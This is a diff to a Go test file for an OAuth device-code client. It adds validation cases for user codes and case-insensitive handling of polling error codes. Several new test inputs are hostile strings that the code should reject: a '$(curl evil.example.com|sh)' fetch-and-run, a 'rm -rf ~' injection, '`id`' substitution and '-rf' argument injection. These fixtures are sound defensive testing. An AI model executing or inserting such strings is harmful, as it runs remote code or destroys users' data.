@@ -54,8 +54,18 @@ func TestDevice(t *testing.T) {
 		{`http://127.0.0.1/`, `javascript:alert(1)//`, 0},
 		{`http://127.0.0.1/`, `https:127.0.0.1/`, 0},
 		{`BCDFGHJK`, `B\u001b[2J`, 0},
-		{`BCDFGHJK`, strings.Repeat("B", 65), 0},
+		{`BCDFGHJK`, strings.Repeat("B", 33), 0},
 		{`BCDFGHJK`, ``, 0},
+		{`BCDFGHJK`, `  `, 0},
+		{`BCDFGHJK`, `BCDF GHJK`, 0},
+		{`BCDFGHJK`, `$(curl evil.example.com|sh)`, 0},
+		{`BCDFGHJK`, `BCDF; rm -rf ~`, 0},
+		{`BCDFGHJK`, "`id`", 0},
+		{`BCDFGHJK`, `-rf`, 0},
+		{`BCDFGHJK`, `BCDF--GHJK`, 0},
+		{`BCDFGHJK`, `BCDF-`, 0},
+		{`BCDFGHJK`, `BCDF-GHJK`, 5 * time.Second},
+		{`BCDFGHJK`, ` bcdf-ghjk-123 `, 5 * time.Second},
 		{`1111-device-code`, ``, 0},
 		{`300`, `0`, 0},
 		{`300`, `-1`, 0},
@@ -92,8 +102,9 @@ func serve(s *seen, body *string) http.Handler {
 
 // While a person hasn't agreed yet, the code of the error says how to go on.
 func TestDevicePolling(t *testing.T) {
-	for _, code := range []string{"authorization_pending", "slow_down", "access_denied", "expired_token"} {
-		d, _ := recorder(t, 400, `{"error":"`+code+`"}`)
+	for _, said := range []string{"authorization_pending", "AUTHORIZATION_PENDING", "slow_down", "Slow_Down", "access_denied", "expired_token"} {
+		code := strings.ToLower(said)
+		d, _ := recorder(t, 400, `{"error":"`+said+`"}`)
 		_, err := newClient(d.URL).Token(bound(t), DeviceCode{secret.New("1111")}, nil)
 		if e := expect(t, err, ErrFailure, Settled); e.Code != code {
 			t.Errorf("got %q, want %q", e.Code, code)
